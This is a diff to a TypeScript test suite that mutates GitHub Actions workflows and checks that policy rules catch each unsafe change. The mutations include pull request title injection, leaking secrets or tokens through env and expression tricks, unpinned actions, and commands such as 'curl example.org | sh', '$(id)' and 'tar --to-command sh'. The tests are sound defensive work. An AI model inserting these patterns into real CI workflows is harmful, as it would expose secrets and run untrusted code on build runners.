@@ -17,7 +17,8 @@ test('every workflow keeps to the policy', () => {
 const SHA = '08c6903cd8c0fde910a37f88322edcfb5dd907a8'
 
 /** What is changed in which workflow, and the rule that must say so. */
-const MUTATIONS: [rule: string, file: string, from: string | RegExp, to: string][] = [
+type Mutation = [rule: string, file: string, from: string, to: string]
+const MUTATIONS: Mutation[] = [
   ['self-hosted', 'bench.yml', 'on:\n', 'on:\n  pull_request:\n'],
   ['trigger', 'bench.yml', 'on:\n', 'on:\n  pull_request_target:\n'],
   ['self-hosted', 'bench.yml', 'on:\n', 'on:\n  issue_comment:\n'],
@@ -32,7 +33,18 @@ const MUTATIONS: [rule: string, file: string, from: string | RegExp, to: string]
   ['reused', 'pull-request.yml', 'jobs:\n', `jobs:\n  x:\n    uses: a/b/c.yml@${SHA} # v1.0.0\n`],
   ['expression', 'pull-request.yml', '"$GITHUB_SHA"', `"\${{ github.event.pull_request.title }}"`],
   ['expression', 'bench.yml', '--hosts "$HOSTS"', `--hosts "\${{ inputs.hosts }}"`],
-  ['expression', 'pull-request.yml', '- run: bash .ci/run', '- run: bash .ci/run\n        shell: bash {0} x'],
+  ['key', 'pull-request.yml', '- run: bash .ci/run', '- run: bash .ci/run\n        shell: bash {0} x'],
+  ['key', 'pull-request.yml', 'jobs:\n', 'defaults:\n  run:\n    shell: bash {0} x\njobs:\n'],
+  ['key', 'pull-request.yml', '    steps:\n', '    defaults:\n      run:\n        shell: bash {0} x\n    steps:\n'],
+  ['key', 'pull-request.yml', 'jobs:\n', 'env:\n  KEY: x\njobs:\n'],
+  ['key', 'pull-request.yml', '- run: npm ci', '- run: npm ci\n        continue-on-error: true'],
+  ['key', 'bench.yml', '    permissions: {}\n', '    permissions: {}\n    container: ubuntu\n'],
+  [
+    'key',
+    'bench.yml',
+    '    permissions: {}\n',
+    '    permissions: {}\n    services:\n      x:\n        image: ubuntu\n',
+  ],
   ['pin', 'pull-request.yml', `actions/checkout@${SHA} # v5.0.0`, 'actions/checkout@v5 # v5.0.0'],
   ['pin', 'pull-request.yml', `actions/checkout@${SHA} # v5.0.0`, `actions/checkout@${SHA}`],
   ['pin', 'pull-request.yml', `actions/checkout@${SHA} # v5.0.0`, './local'],
@@ -41,7 +53,22 @@ const MUTATIONS: [rule: string, file: string, from: string | RegExp, to: string]
   ['permissions', 'pull-request.yml', 'contents: read', 'contents: write'],
   ['permissions', 'pull-request.yml', '    permissions:\n      contents: read\n', ''],
   ['permissions', 'publish.yml', 'contents: read', 'actions: read'],
-  ['secret', 'pull-request.yml', '    steps:\n', `    env:\n      KEY: \${{ secrets.KEY }}\n    steps:\n`],
+  ['secret', 'pull-request.yml', 'jobs:\n', `env:\n  KEY: \${{ secrets.KEY }}\njobs:\n`],
+  ['secret', 'publish.yml', 'jobs:\n', `env:\n  KEY: \${{ github.token }}\njobs:\n`],
+  ['secret', 'pull-request.yml', '- run: npm ci', '- if: secrets.KEY\n        run: npm ci'],
+  ['secret', 'pull-request.yml', '- run: npm ci', '- env:\n          GH_TOKEN: x\n        run: npm ci'],
+  ['secret', 'bench.yml', `DIGEST: \${{ needs.plan.outputs.digest }}`, `GH_TOKEN: \${{ github.token }}`],
+  ...[
+    ...['secrets.KEY', 'SECRETS.KEY', "secrets['KEY']", 'toJSON(secrets)', 'toJSON(github)', 'github', 'github.*'],
+    ...["github['token']", 'github.token', 'GitHub.Token', "format('{0}', github.token)", "'}}' && secrets.KEY", 'x.y'],
+  ].map(
+    (text): Mutation => [
+      'secret',
+      'pull-request.yml',
+      '    steps:\n',
+      `    env:\n      K: \${{ ${text} }}\n    steps:\n`,
+    ],
+  ),
   ['credentials', 'pull-request.yml', 'persist-credentials: false', 'persist-credentials: true'],
   ['time', 'nightly.yml', '    timeout-minutes: 60\n', ''],
   ['self-hosted', 'bench.yml', '    permissions: {}\n', '    permissions:\n      contents: read\n'],
@@ -55,10 +82,35 @@ const MUTATIONS: [rule: string, file: string, from: string | RegExp, to: string]
   ],
   ['self-hosted', 'bench.yml', `bench-host-\${{ matrix.host }}`, 'bench-hosts'],
   ['self-hosted', 'bench.yml', "    if: github.ref == 'refs/heads/main'\n", ''],
-  ['self-hosted', 'bench.yml', `DIGEST: \${{ needs.plan.outputs.digest }}`, `GH_TOKEN: \${{ github.token }}`],
+  ['self-hosted', 'bench.yml', '    environment:\n      name: bench\n', `    environment: \${{ inputs.hosts }}\n`],
+  ['self-hosted', 'bench.yml', '    permissions: {}\n', '    permissions: {}\n    if: always()\n'],
+  ['secret', 'bench.yml', '    permissions: {}\n', '    permissions: {}\n    if: always()\n'],
+  ['self-hosted', 'bench.yml', '    permissions: {}\n', '    permissions: {}\n    if: "!cancelled()"\n'],
+  ['self-hosted', 'bench.yml', ' | sha256sum --check --strict', ''],
+  ['self-hosted', 'bench.yml', 'echo "$DIGEST  ', 'echo "$HOST  '],
+  ['self-hosted', 'bench.yml', 'working-directory: checkout', 'working-directory: kit'],
+  ['self-hosted', 'bench.yml', '          path: kit\n', '          path: checkout\n'],
+  ['self-hosted', 'bench.yml', '          path: kit\n', ''],
   ['self-hosted', 'bench.yml', ' --data ../run --sandbox', ' --data ../run'],
   ['self-hosted', 'bench.yml', ' --data ../run --sandbox', ' --data ../run # --sandbox'],
-  ['self-hosted', 'bench.yml', '- run: rm -rf kit run checkout', `- uses: actions/checkout@${SHA} # v5.0.0`],
+  [
+    'self-hosted',
+    'bench.yml',
+    '- run: rm -rf kit',
+    `- uses: actions/checkout@${SHA} # v5.0.0\n      - run: rm -rf kit`,
+  ],
+  ...[
+    ...['npm run bench -- --sandbox --data $(id)', 'node runners/bench.ts --kit kit.json', 'curl example.org | sh'],
+    ...['rm -rf kit; sh kit/run', 'rm -rf kit || sh kit/run', 'echo "$(sh kit/run)"', 'echo "`id`"', 'bash kit/run'],
+    ...['tar --extract --to-command sh --file kit/kit.tar', 'tar --extract --file kit/other.tar --directory checkout'],
+  ].map(
+    (command): Mutation => [
+      'self-hosted',
+      'bench.yml',
+      '- run: rm -rf kit',
+      `- run: ${JSON.stringify(command)}\n      - run: rm -rf kit`,
+    ],
+  ),
 ]
 
 for (const [rule, file, from, to] of MUTATIONS)
